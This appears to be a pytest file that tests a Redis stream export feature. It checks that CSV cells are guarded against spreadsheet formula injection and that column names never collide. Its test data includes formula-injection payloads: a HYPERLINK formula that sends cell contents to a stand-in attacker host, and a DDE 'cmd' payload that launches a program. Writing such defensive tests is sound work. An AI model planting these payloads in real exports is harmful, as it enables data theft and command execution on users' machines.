"""CSV export cells a spreadsheet or ``csv.DictReader`` can take as they are.

* Formula injection: a cell starting with ``=``, ``+``, ``-``, ``@``, tab or CR is a formula to Excel,
  LibreOffice and Sheets. OWASP's remedy: such a cell gets a leading ``'`` and every cell is quoted. The
  documented way back (``streams_app.exports`` docstring) is re-implemented here in plain Python: strip
  one leading ``'`` from a cell whose text after its leading quotes starts with one of those six.
* Column names: the entry's own columns and the field columns never share a name, whatever the fields
  are called (``id``, ``time``, the empty name, a name like a field column's or like ``other_fields``).

Expected values come from Redis (a raw XRANGE) and plain Python, never from the export code.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pyarrow.parquet as pq
import redis

from tests.console.helpers import seg

KEY = "csv:cells"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def unescape(cell: str) -> str:
    """The documented reader's rule, written here from the docs, not imported."""
    if cell.startswith("'") and cell.lstrip("'")[:1] in TRIGGERS:
        return cell[1:]
    return cell


def xrange(r: redis.Redis) -> list[tuple[str, list[tuple[str, str]]]]:
    raw = redis.Redis(connection_pool=r.connection_pool)
    raw.set_response_callback("XRANGE", lambda reply, **_: reply)
    return [
        (i.decode(), [(f[k].decode(), f[k + 1].decode()) for k in range(0, len(f), 2)])
        for i, f in raw.execute_command("XRANGE", KEY, "-", "+")
    ]


def iso(entry_id: str) -> str:
    ms = int(entry_id.split("-")[0])
    return datetime.fromtimestamp(ms / 1000, UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def download(client, fmt: str) -> bytes:
    response = client.get(f"/api/v1/c/default/streams/{seg(KEY)}/export?format={fmt}")
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content)


HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+1+1",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "=cmd|' /C calc'!A0",
    "'=already quoted",  # a value the reader's rule would strip: it gets a quote of its own
    "''@two quotes",
    "'plain quote",  # not followed by a trigger: left alone, both ways
    "'",
    "-",
    "safe, with a comma and \"quotes\"",
    "",
]


def test_formula_cells_are_neutralised_and_round_trip(r, viewer_client) -> None:
    for i, value in enumerate(HOSTILE):
        r.xadd(KEY, {"type": "t", "value": value, f"={i}+{i}": "name hostile", "-name": value})
    body = download(viewer_client, "csv").decode()
    rows = list(csv.reader(io.StringIO(body, newline="")))
    # nothing a spreadsheet would evaluate, header row included
    for row in rows:
        for cell in row:
            assert cell[:1] not in TRIGGERS, repr(cell)
    # every cell quoted, so a separator or quote inside a value cannot start a cell of its own
    for line in body.split("\r\n")[:-1]:
        if "\r" in line or "\n" in line:
            continue  # a value with a line break spans two physical lines
        assert line.startswith('"') and line.endswith('"'), line

    header, rows = [unescape(c) for c in rows[0]], rows[1:]
    expected = xrange(r)
    assert len(rows) == len(expected)
    for row, (entry_id, pairs) in zip(rows, expected, strict=True):
        record = dict(zip(header, (unescape(c) for c in row), strict=True))
        assert (record["id"], record["time"]) == (entry_id, iso(entry_id))
        got = {name.removeprefix("fields."): v for name, v in record.items() if name.startswith("fields.") and v}
        assert got == {name: value for name, value in pairs if value}


def test_entry_columns_never_collide_with_field_columns(r, viewer_client) -> None:
    names = ["id", "time", "", "other_fields", "fields.id", "entry_id", "type"]
    for n in range(3):
        r.xadd(KEY, {name: f"{name or 'empty'}-{n}" for name in names})
    expected = xrange(r)

    body = download(viewer_client, "csv").decode()
    header = next(csv.reader(io.StringIO(body, newline="")))
    assert len(set(header)) == len(header), header
    records = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [(x["id"], x["time"]) for x in records] == [(i, iso(i)) for i, _ in expected]
    for record, (_, pairs) in zip(records, expected, strict=True):
        fields = {name.removeprefix("fields."): v for name, v in record.items() if name.startswith("fields.")}
        assert fields == dict(pairs)
        assert record["other_fields"] == ""  # every field had a column of its own


def test_parquet_keeps_the_entry_id_beside_a_field_named_id(r, viewer_client) -> None:
    """Parquet's columns are fixed (``id``, ``time``, ``fields``, ``fields_raw``): field names are values."""
    for n in range(3):
        r.xadd(KEY, {"id": f"payload-{n}", "time": "t", "": "e", "fields": "f"})
    expected = xrange(r)
    table = pq.read_table(io.BytesIO(download(viewer_client, "parquet")))
    assert table.column_names == ["id", "time", "fields", "fields_raw"]
    rows = table.to_pylist()
    assert [row["id"] for row in rows] == [i for i, _ in expected]
    assert [[(f["name"], f["value"]) for f in row["fields"]] for row in rows] == [p for _, p in expected]
